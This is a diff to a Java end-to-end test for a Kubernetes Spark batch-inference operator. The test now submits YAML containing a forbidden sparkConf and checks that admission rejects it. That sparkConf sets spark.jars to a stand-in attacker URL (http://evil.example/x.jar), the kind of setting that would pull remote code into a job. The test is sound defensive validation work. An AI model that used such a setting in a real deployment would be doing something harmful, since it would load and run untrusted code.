@@ -2,7 +2,6 @@ package dev.sparkinfer.e2e;
 
 import static dev.sparkinfer.e2e.Workspace.condition;
 import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import dev.sparkinfer.api.v1alpha1.BatchInferenceStatus;
 import dev.sparkinfer.api.v1alpha1.Phase;
@@ -11,7 +10,7 @@ import io.fabric8.kubernetes.api.model.LimitRangeBuilder;
 import io.fabric8.kubernetes.api.model.Pod;
 import io.fabric8.kubernetes.api.model.Quantity;
 import io.fabric8.kubernetes.api.model.ResourceQuotaBuilder;
-import io.fabric8.kubernetes.client.KubernetesClientException;
+import io.fabric8.kubernetes.client.utils.Serialization;
 import java.awt.image.BufferedImage;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
@@ -54,7 +53,6 @@ class WaitingTest {
   void gpus() {
     Cluster.shared().setGpus(0);
     workspace.apply("gpus", "executors.gpus=1");
-    workspace.awaitPhase("gpus", Phase.Running, DRIVER_START);
     BatchInferenceStatus waiting =
         workspace.await(
             "gpus",
@@ -219,14 +217,14 @@ class WaitingTest {
 
   @Test
   void forbiddenSettings() {
-    assertThatThrownBy(
-            () ->
-                workspace
-                    .client()
-                    .resource(
-                        workspace.resource("forbidden", "sparkConf.spark\\.jars=http://evil/x.jar"))
-                    .create())
-        .isInstanceOf(KubernetesClientException.class)
-        .hasMessageContaining("sparkConf");
+    String forbidden =
+        Serialization.asYaml(workspace.resource("forbidden"))
+            .replaceFirst(
+                "(?m)^spec:", "spec:\n  sparkConf: {spark.jars: http://evil.example/x.jar}");
+
+    Program.Result answer = Cluster.shared().kubectlWith(forbidden, "create", "-f", "-");
+
+    assertThat(answer.exitCode()).isNotZero();
+    assertThat(answer.output()).contains("spec.sparkConf").contains("spark.task.maxFailures");
   }
 }
